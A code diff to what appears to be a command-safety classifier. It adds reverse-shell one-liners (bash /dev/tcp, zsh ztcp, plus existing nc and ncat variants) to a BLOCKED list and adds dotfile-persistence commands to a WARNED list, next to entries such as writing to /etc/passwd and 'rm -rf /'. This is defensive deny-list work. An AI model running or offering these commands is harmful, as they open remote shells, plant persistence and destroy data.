@@ -200,6 +200,8 @@ export const BLOCKED: Readonly<Record<string, readonly string[]>> = {
     'sh -i >& /dev/udp/203.0.113.5/4444 0>&1',
     'exec 5<>/dev/tcp/203.0.113.5/4444; cat <&5 | while read l; do $l 2>&5 >&5; done',
     '0<&196;exec 196<>/dev/tcp/203.0.113.5/4444; sh <&196 >&196 2>&196',
+    '/bin/bash -l > /dev/tcp/203.0.113.5/4444 0<&1 2>&1',
+    'zsh -c "zmodload zsh/net/tcp && ztcp 203.0.113.5 4444 && zsh >&$REPLY 0>&$REPLY"',
     'nc -e /bin/sh 203.0.113.5 4444',
     'nc 203.0.113.5 4444 -e /bin/bash',
     'ncat --exec /bin/sh 203.0.113.5 4444',
@@ -368,6 +370,8 @@ export const WARNED: Readonly<Record<string, readonly string[]>> = {
     'sed -i "1i evil" ~/.profile',
     'ln -s x ~/.config/autostart/x.desktop',
     'echo "x:0:0" >> /etc/passwd',
+    'echo "[core]" > ~/.gitconfig',
+    'cp rc $HOME/.vimrc',
   ],
   destruction: [
     'rm -rf /',
